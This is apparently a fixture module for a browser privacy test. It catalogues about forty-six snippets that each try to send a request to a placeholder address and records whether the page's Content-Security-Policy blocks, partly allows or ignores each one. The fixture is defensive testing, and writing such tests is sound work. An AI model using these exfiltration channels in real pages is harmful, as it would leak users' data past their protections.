// Ways by which a page could send something out, each planted on purpose by `privacy.test.js`. `plant` runs in the page and is given: `to`, an address that
// nobody should reach, at `port`; `own`, one on the page's own server; `trust`, which turns a text into what Trusted Types ask for.
//
// `not`: a browser that does not do such a thing at all, as it comes. `policy` says what becomes of it under the page's Content-Security-Policy, in
// Chromium and, but where `firefox` says otherwise, in Firefox:
//   'blocked'     nothing reaches the wire;
//   'connection'  the browser opens a connection before it asks the policy, but nothing is ever written to it;
//                 (`bare`: nor would anything be without the policy);
//   'open'        the policy has no word on it: only the recorder guards against it, and `bundle.test.js`, which reads the code for it.

/** Adds an element with these properties. */
const element = (tag, properties) => `({to, own, trust}) => {
  const it = document.createElement('${tag}');
  const set = ${properties};
  for (const [name, value] of Object.entries(set)) it.setAttribute(name, value);
  document.body.append(it);
}`;

const inWorker = (code) => `({to, trust}) => {
  const text = ${code};
  window.kept = new Worker(trust(URL.createObjectURL(new Blob([text], {type: 'text/javascript'}))));
}`;

/** @type {Array<{name: string, plant: string, policy: 'blocked'|'connection'|'open', bare?: boolean, firefox?: string, not?: string}>} */
export const leaks = [
  { name: 'fetch', policy: 'blocked', plant: '({to}) => { fetch(to, {mode: "no-cors"}).catch(() => {}); }' },
  { name: 'fetch that outlives the page', policy: 'blocked', plant: '({to}) => { fetch(to, {mode: "no-cors", keepalive: true, method: "POST", body: "x"}).catch(() => {}); }' },
  { name: 'fetch to the own server', policy: 'blocked', plant: '({own}) => { fetch(own).catch(() => {}); }' },
  { name: 'XMLHttpRequest', policy: 'blocked', plant: '({to}) => { const x = new XMLHttpRequest(); x.open("GET", to); x.send(); }' },
  { name: 'beacon', policy: 'blocked', plant: '({to}) => { navigator.sendBeacon(to, "x"); }' },
  { name: 'beacon to the own server', policy: 'blocked', plant: '({own}) => { navigator.sendBeacon(own, "x"); }' },
  { name: 'WebSocket', policy: 'blocked', plant: '({to}) => { window.kept = new WebSocket(to.replace("http", "ws")); }' },
  { name: 'EventSource', policy: 'blocked', plant: '({to}) => { window.kept = new EventSource(to); }' },
  { name: 'image', policy: 'blocked', plant: '({to}) => { new Image().src = to; }' },
  { name: 'image from the own server', policy: 'blocked', plant: '({own}) => { new Image().src = own; }' },
  { name: 'image with srcset', policy: 'blocked', plant: element('img', '{srcset: `${to} 2x, ${to} 1x`}') },
  { name: 'image within SVG', policy: 'blocked', plant: `({to}) => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
    image.setAttribute('href', to); image.setAttribute('width', '9'); image.setAttribute('height', '9'); svg.append(image); document.body.append(svg);
  }` },
  { name: 'picture in a style', policy: 'blocked', plant: '({to}) => { document.body.style.backgroundImage = `url("${to}")`; }' },
  { name: 'image button', policy: 'blocked', plant: element('input', '{type: "image", src: to}') },
  { name: 'video', policy: 'blocked', plant: element('video', '{src: to, autoplay: ""}') },
  { name: 'sound', policy: 'blocked', plant: element('audio', '{src: to, autoplay: ""}') },
  { name: 'script', policy: 'blocked', plant: '({to, trust}) => { const s = document.createElement("script"); s.src = trust(to); document.body.append(s); }' },
  { name: 'script from the own server', policy: 'open', plant: '({own, trust}) => { const s = document.createElement("script"); s.src = trust(own); document.body.append(s); }' },
  { name: 'module import', policy: 'blocked', plant: '({to}) => { import(to).catch(() => {}); }' },
  { name: 'module preload', policy: 'blocked', plant: element('link', '{rel: "modulepreload", href: to}') },
  { name: 'style', policy: 'blocked', plant: element('link', '{rel: "stylesheet", href: to}') },
  { name: 'style from the own server', policy: 'open', plant: element('link', '{rel: "stylesheet", href: own}') },
  { name: 'font', policy: 'blocked', plant: '({to}) => { new FontFace("leak", `url("${to}")`).load().catch(() => {}); }' },
  { name: 'font in an adopted style', policy: 'blocked', plant: `({to}) => {
    const sheet = new CSSStyleSheet(); sheet.replaceSync('@font-face { font-family: leak; src: url("' + to + '") } body { font-family: leak }');
    document.adoptedStyleSheets = [sheet]; document.body.append('text');
  }` },
  { name: 'frame', policy: 'connection', firefox: 'blocked', plant: element('iframe', '{src: to}') },
  { name: 'object', policy: 'blocked', plant: element('object', '{data: to}') },
  { name: 'embed', policy: 'blocked', plant: '({to, trust}) => { const e = document.createElement("embed"); e.src = trust(to); document.body.append(e); }' },
  { name: 'form', policy: 'connection', firefox: 'blocked', plant: '({to}) => { const f = document.createElement("form"); f.action = to; f.method = "post"; document.body.append(f); f.submit(); }' },
  { name: 'form into a new tab', policy: 'connection', firefox: 'blocked', plant: '({to}) => { const f = document.createElement("form"); f.action = to; f.target = "_blank"; document.body.append(f); f.submit(); }' },
  { name: 'ping of a link', policy: 'blocked', not: 'firefox', plant: '({to}) => { const a = document.createElement("a"); a.href = "#here"; a.ping = to; document.body.append(a); a.click(); }' },
  { name: 'preload', policy: 'blocked', plant: element('link', '{rel: "preload", as: "image", href: to}') },
  { name: 'prefetch', policy: 'blocked', plant: element('link', '{rel: "prefetch", href: to}') },
  { name: 'preconnect', policy: 'connection', bare: true, not: 'firefox', plant: element('link', '{rel: "preconnect", href: to}') },
  { name: 'worker from an address', policy: 'blocked', plant: '({own, trust}) => { window.kept = new Worker(trust(own)); }' },
  { name: 'shared worker from an address', policy: 'blocked', plant: '({own, trust}) => { window.kept = new SharedWorker(trust(own)); }' },
  { name: 'service worker', policy: 'blocked', plant: '({own, trust}) => { navigator.serviceWorker.register(trust(own)).catch(() => {}); }' },
  { name: 'fetch in a blob worker', policy: 'blocked', plant: inWorker('`fetch("${to}", {mode: "no-cors"})`') },
  { name: 'importScripts in a blob worker', policy: 'blocked', plant: inWorker('`importScripts("${to}")`') },
  { name: 'WebSocket in a blob worker', policy: 'blocked', plant: inWorker('`new WebSocket("${to.replace("http", "ws")}")`') },
  { name: 'XMLHttpRequest in a blob worker', policy: 'blocked', plant: inWorker('`const x = new XMLHttpRequest(); x.open("GET", "${to}"); x.send()`') },
  { name: 'navigation', policy: 'open', plant: '({to}) => { setTimeout(() => { location.href = to; }); }' },
  { name: 'refresh', policy: 'open', plant: element('meta', '{"http-equiv": "refresh", content: `0;url=${to}`}') },
  { name: 'click on a link', policy: 'open', plant: '({to}) => { const a = document.createElement("a"); a.href = to; document.body.append(a); setTimeout(() => a.click()); }' },
  { name: 'download', policy: 'open', plant: '({own}) => { const a = document.createElement("a"); a.href = own; a.download = "x"; document.body.append(a); setTimeout(() => a.click()); }' },
  { name: 'popup', policy: 'open', plant: '({to}) => { window.kept = window.open(to); }' },
  { name: 'WebRTC', policy: 'open', plant: `({port}) => {
    const peer = window.kept = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + port}]});
    peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  }` },
];
